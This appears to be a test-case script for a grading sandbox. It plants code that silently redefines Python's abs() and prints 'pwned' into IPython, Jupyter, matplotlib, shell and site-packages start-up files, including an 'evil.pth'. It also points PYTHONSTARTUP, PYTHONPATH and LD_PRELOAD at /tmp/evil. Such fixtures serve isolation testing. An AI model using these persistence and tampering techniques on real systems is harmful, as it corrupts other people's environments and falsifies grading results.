# Writes start-up files for IPython, Python, matplotlib, Jupyter and the shell, to be run by whoever comes next.
# family: start-up files
# after: They are gone with the submission, and the grader's home is as it was.

# %% own
import os
import site

home = os.path.expanduser("~")
text = "import builtins\nbuiltins.abs = lambda x: 0\nprint('pwned')\n"
places = [".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py", ".pythonrc", ".bashrc"]
places += [".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py", ".local/lib/python3.11/site-packages/usercustomize.py"]
for place in [*(os.path.join(home, place) for place in places), os.path.join(site.getusersitepackages(), "evil.pth")]:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        open(place, "w").write(text)
    except OSError as error:
        print(error)
for name in ("PYTHONSTARTUP", "PYTHONPATH", "LD_PRELOAD", "PYTHONINSPECT"):
    os.environ[name] = "/tmp/evil"
